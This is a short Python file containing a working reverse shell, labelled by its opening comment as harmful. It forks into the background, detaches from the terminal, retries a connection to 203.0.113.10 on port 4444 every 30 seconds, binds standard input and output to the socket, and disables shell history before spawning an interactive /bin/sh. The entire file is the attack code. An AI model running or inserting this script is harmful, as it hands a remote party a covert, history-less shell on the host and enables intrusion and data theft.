# Harmful: connects back to 203.0.113.10:4444 and attaches an interactive /bin/sh to the socket.
import os
import pty
import socket
import time

HOST, PORT = "203.0.113.10", 4444


def connect():
    while True:
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.connect((HOST, PORT))
            return s
        except OSError:
            time.sleep(30)


if os.fork() == 0:
    os.setsid()
    sock = connect()
    for fd in (0, 1, 2):
        os.dup2(sock.fileno(), fd)
    os.environ["HISTFILE"] = "/dev/null"
    pty.spawn("/bin/sh")
